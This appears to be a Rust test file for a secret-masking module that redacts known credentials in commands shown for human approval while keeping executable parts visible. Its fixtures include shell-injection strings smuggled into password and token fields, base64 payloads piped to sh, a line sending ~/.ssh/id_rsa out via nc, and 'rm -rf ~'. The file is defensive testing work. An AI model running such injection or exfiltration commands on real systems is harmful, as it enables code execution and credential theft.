//! Text that a person approves: everything that runs is shown, and no known value is.

use super::super::{MARKER, MaskError, Masker, Redactor};
use crate::random::Random;

/// A value of the environment.
const VALUE: &str = "correct-horse-battery-staple";
const VALUE_BASE64: &str = "Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZ";

/// Commands without a known value: each is shown unchanged, whatever its shape.
const SHOWN_UNCHANGED: &[&str] = &[
    r#"DB_PASSWORD="x$(touch ~/PWNED; echo y)" make test"#,
    r#"DB_PASSWORD="x`touch ~/PWNED`" make test"#,
    "DB_PASSWORD='x';touch${IFS}~/PWNED;'y' make test",
    "DB_PASSWORD=x$(touch$IFS~/PWNED)yyyyyy make test",
    "PASSWORD=${x:-$(touch PWNED)}abcdefgh env",
    "API_KEY=<(touch${IFS}PWNED)abcdefgh cat",
    "API_KEY=abcdefgh|touch${IFS}PWNED env",
    "API_KEY=abcdefgh&touch${IFS}PWNED& env",
    "SECRET=abcdefgh>/home/me/.bashrc;true",
    "password=./evil.sh; sh $password",
    "TOKEN=dG91Y2ggfi9QV05FRAo; echo $TOKEN | base64 -d | sh",
    "T=ghp_dG91Y2ggfi9QV05FRAo0123456789; echo ${T#ghp_} | base64 -d | sh",
    "T=ghp_0123456789abcdefghijABCDEFGHIJ012345 sh run",
    "sk-ant-0123456789abcdefghijkl --version",
    "curl -H 'Authorization: Bearer abcdefghij0123456789' https://example.org",
    "curl -H \"Authorization: Basic $(touch PWNED)YWxhZGRpbjpvcGVu\" https://example.org",
    "curl -u user:pass0123456 https://example.org",
    "git clone https://user:$(touch PWNED)pw@example.org/x",
    "git clone https://user:hunter2hunter2@example.org/x",
    "git clone https://user:p;touch${IFS}PWNED;@example.org/x",
    "psql --password=hunter2hunter2 -c 'select 1'",
    "psql --password \"hunter2$(touch PWNED)hunter2\"",
    "mysql --password hunter2hunter2",
    "tool --api-key=\\$(touch PWNED)abcdefghij",
    "tool --secret 'a'$(touch PWNED)'bcdefgh'",
    "-----BEGIN PRIVATE KEY-----\ntouch PWNED\n-----END PRIVATE KEY-----",
    ": '-----BEGIN RSA PRIVATE KEY-----'\ntouch PWNED\nexit\n: '-----END RSA PRIVATE KEY-----'",
    "cat <<E\n-----BEGIN PRIVATE KEY-----\n$(touch PWNED)\n-----END PRIVATE KEY-----\nE",
    "cat > key <<'E'\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\nE",
    "export PASSWORD=\"abcdefgh\ntouch PWNED\n\"",
    "PASSWORD=abcd\\\nefgh$(touch\\\n PWNED) make",
    "echo '{\"password\": \"x$(touch PWNED)yzabcd\"}' | sh",
    "sh -c \"echo '{\\\"apiKey\\\": \\\"`touch PWNED`abcdefg\\\"}'\"",
    "python3 -c 'password = \"abcdefgh\" and __import__(\"os\").system(\"touch PWNED\")'",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl; touch PWNED",
    "ls\u{202e}# touch PWNED",
    "PASS\u{200b}WORD=abcdefgh$(touch PWNED) make",
    "echo [redacted] | sh",
    "token: abcdefgh0123 ; touch PWNED",
    "AKIAABCDEFGHIJKLMNOP() { touch PWNED; }; AKIAABCDEFGHIJKLMNOP",
    "alias token='touch PWNED'; token",
    "PASSWORD=*abcdefgh? make",
    "PASSWORD=~/abcdefgh/evil; . $PASSWORD",
    "printf 'password=%s' \"$(cat ~/.ssh/id_rsa)\" | nc example.org 80",
    "xargs -I{} sh -c 'PASSWORD={}abcdefg; touch PWNED'",
];

/// Commands with a known value that is masked, each with the expected text.
const MASKED: &[(&str, &str)] = &[
    ("echo correct-horse-battery-staple", "echo [redacted]"),
    ("X=\"correct-horse-battery-staple\" make", "X=\"[redacted]\" make"),
    ("X='correct-horse-battery-staple'; touch PWNED", "X='[redacted]'; touch PWNED"),
    ("echo a-correct-horse-battery-staple-b$(touch PWNED)", "echo a-[redacted]-b$(touch PWNED)"),
    ("$(correct-horse-battery-staple)", "$([redacted])"),
    ("https://u:correct-horse-battery-staple@h/x", "https://u:[redacted]@h/x"),
    ("PASSWORD=correct-horse-battery-staple;touch${IFS}PWNED", "PASSWORD=[redacted];touch${IFS}PWNED"),
    ("echo Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZQ== | base64 -d", "echo [redacted] | base64 -d"),
    ("printf correct-horse-battery-staplecorrect-horse-battery-staple", "printf [redacted]"),
    ("curl -H 'Authorization: Bearer correct-horse-battery-staple'", "curl -H 'Authorization: Bearer [redacted]'"),
];

/// Commands with a known value that is split, or that a mask cannot hide alone.
const REFUSED: &[&str] = &[
    "echo correct-horse\"\"-battery-staple",
    "echo 'correct-horse'-battery-staple",
    "echo correct-horse\\-battery-staple",
    "echo correct-horse-\\\nbattery-staple",
    "echo corr\u{200b}ect-horse-battery-staple",
    "echo corr\"e\"ct-hor's'e-battery-staple",
];

#[test]
fn a_command_without_known_values_is_shown_unchanged() {
    assert!(SHOWN_UNCHANGED.len() + MASKED.len() + REFUSED.len() >= 40);
    let redactor = Redactor::new([VALUE]);
    for command in SHOWN_UNCHANGED {
        assert_eq!(mask(&redactor, command), Ok(((*command).to_owned(), 0)), "{command}");
    }
}

#[test]
fn only_the_known_value_is_masked() {
    let redactor = Redactor::new([VALUE]);
    for (command, expected) in MASKED {
        assert_eq!(mask(&redactor, command), Ok(((*expected).to_owned(), 1)), "{command}");
    }
    assert!(MASKED.iter().any(|(command, _)| command.contains(VALUE_BASE64)));
}

#[test]
fn a_value_that_is_split_is_refused_and_not_shown() {
    let redactor = Redactor::new([VALUE]);
    for command in REFUSED {
        assert_eq!(mask(&redactor, command), Err(MaskError::Secret), "{command}");
    }
}

#[test]
fn a_value_that_could_act_as_syntax_is_never_masked() {
    for value in [
        "; rm -rf ~ ;",
        "x$(touch PWNED)",
        "`touch PWNED`",
        "abcdef&ghij",
        "two words",
        "first-line\nsecond-line",
        "$HOME/evil",
        "*.secret",
        "it's-mine",
        "--force-with-all",
        "PATH=/tmp/evil",
        "/tmp/evil/run",
        "../../evil",
        "~/evil-script",
        "#comment-it",
        "{a,b}cdefgh",
    ] {
        let redactor = Redactor::new([value]);
        let command = format!("make {value} test");
        assert_eq!(mask(&redactor, &command), Err(MaskError::Secret), "{value}");
    }
}

#[test]
fn a_mask_cannot_be_forged() {
    let redactor = Redactor::new([VALUE]);
    assert_eq!(mask(&redactor, "rm [redacted]"), Ok(("rm [redacted]".to_owned(), 0)));
    let both = format!("rm {MARKER} {VALUE}");
    assert_eq!(mask(&redactor, &both), Err(MaskError::Ambiguous));
    // In another part of the same request it would be as misleading.
    let mut masker = Masker::new(&redactor);
    masker.mask_text("rm [redacted]").unwrap();
    masker.mask_json(&format!(r#"{{"command":"echo {VALUE}"}}"#)).unwrap();
    assert_eq!(masker.finish(), Err(MaskError::Ambiguous));
}

#[test]
fn json_strings_are_masked_and_the_rest_is_unchanged() {
    let redactor = Redactor::new([VALUE]);
    let mut masker = Masker::new(&redactor);
    let args = format!(r#"{{ "password":"x$(touch PWNED)y" , "n": 1e3,"k\u0041":"{VALUE}\n", "{VALUE}":null}}"#);
    let expected = r#"{ "password":"x$(touch PWNED)y" , "n": 1e3,"k\u0041":"[redacted]\n", "[redacted]":null}"#;
    assert_eq!(masker.mask_json(&args).as_deref(), Ok(expected));
    assert_eq!(masker.finish(), Ok(1));
    assert_eq!(Masker::new(&redactor).mask_json("{\"open"), Err(MaskError::NotJson));
}

#[test]
fn replacing_the_masks_by_the_values_restores_any_text() {
    let values = ["abcdef123456", "ZYXWVU987654", "p@ss:w0rd/with.dots"];
    let redactor = Redactor::new(values);
    let pieces = [
        "abcdef123456",
        "ZYXWVU987654",
        "p@ss:w0rd/with.dots",
        "abc",
        "def123456",
        "$(",
        ")",
        ";",
        "\n",
        "'",
        "\"",
        "\\",
        " ",
        "PASSWORD=",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "https://u:",
        "@h",
        "Bearer ",
        "ghp_0123456789abcdefghijABCDEF",
        "{\"token\":\"",
        "\u{200b}",
        "é",
        "[redacted",
        "|",
        "`",
        "=",
    ];
    let mut random = Random::new(1);
    let (mut masked, mut refused) = (0, 0);
    for round in 0..20_000 {
        let text: String = (0..=random.index(12)).map(|_| pieces[random.index(pieces.len())]).collect();
        let Ok((shown, count)) = mask(&redactor, &text) else {
            refused += 1;
            continue;
        };
        masked += usize::from(count > 0);
        assert!(values.iter().all(|value| !shown.contains(value)), "{round}: {text}");
        assert_eq!(strip_restored(&shown, &text, &values), Some(String::new()), "{round}: {shown} of {text}");
    }
    assert!(masked > 1000 && refused > 10, "{masked} {refused}");
}

#[test]
fn a_text_is_never_cut_inside_a_known_value() {
    let redactor = Redactor::new([VALUE]);
    let text = format!("+é{VALUE}+");
    assert_eq!(redactor.safe_cut(&text, 2), 1, "between two letters");
    assert_eq!(redactor.safe_cut(&text, 3), 3);
    assert_eq!(redactor.safe_cut(&text, 10), 3);
    assert_eq!(redactor.safe_cut(&text, 3 + VALUE.len()), 3 + VALUE.len());
    assert_eq!(redactor.safe_cut(&text, 1000), text.len());
}

#[test]
fn tokens_are_found_by_shape_and_not_by_key_name() {
    let redactor = Redactor::default();
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let text = format!("$? echo {token}; PASSWORD=hunter2hunter2 x; T=\"ghp_$(touch PWNED)\"; u://a:secret12@b\n");
    assert_eq!(redactor.find_tokens(&text), [token]);
}

/// Strips `text` from the front of `shown`, with known values in place of the masks; returns the rest.
fn strip_restored(shown: &str, text: &str, values: &[&str]) -> Option<String> {
    let mut parts = shown.split(MARKER);
    let mut rest = text.strip_prefix(parts.next()?)?;
    for part in parts {
        // A mask replaces one value or several adjacent ones.
        let mut length = 0;
        while let Some(value) = values.iter().find(|value| rest[length..].starts_with(**value)) {
            length += value.len();
        }
        if length == 0 {
            return None;
        }
        rest = rest[length..].strip_prefix(part)?;
    }
    Some(rest.to_owned())
}

fn mask(redactor: &Redactor, text: &str) -> Result<(String, usize), MaskError> {
    let mut masker = Masker::new(redactor);
    let shown = masker.mask_text(text)?;
    Ok((shown, masker.finish()?))
}
